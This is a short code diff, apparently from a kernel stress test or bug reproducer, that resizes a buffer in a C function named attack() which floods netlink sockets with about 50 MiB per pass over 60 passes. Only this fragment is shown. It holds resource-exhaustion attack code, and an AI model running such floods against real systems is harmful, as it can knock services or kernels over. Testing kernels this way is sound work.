@@ -3,7 +3,7 @@
 #include <linux/netlink.h>
 static void attack(void)
 {
-    static char block[1 << 15];
+    static char block[7000];
     for (int i = 0; i < 60; i++) {
         for (size_t sent = 0; sent < 50 << 20;) {
             struct sockaddr_nl address = {.nl_family = AF_NETLINK};
